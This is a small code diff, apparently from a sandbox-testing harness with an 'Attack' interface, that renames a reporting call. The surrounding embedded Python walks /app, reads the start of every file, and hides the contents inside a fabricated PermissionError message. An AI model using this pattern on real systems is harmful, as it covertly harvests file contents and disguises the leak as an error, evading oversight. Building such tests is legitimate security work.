@@ -27,7 +27,7 @@ for folder, _, names in os.walk("/app"):
         try: found[folder + "/" + name] = open(folder + "/" + name, "rb").read(300).decode("latin1")
         except OSError as error: found[folder + "/" + name] = str(error)
 report(); LINES["PR-SOCK-1"] = [{"error": "PermissionError", "errno": 1, "message": json.dumps(found)[-4000:]}]
-tell(LINES.items())`);
+emit(LINES.items())`);
 
 interface Attack {
   readonly dockerfile?: (text: string) => string;
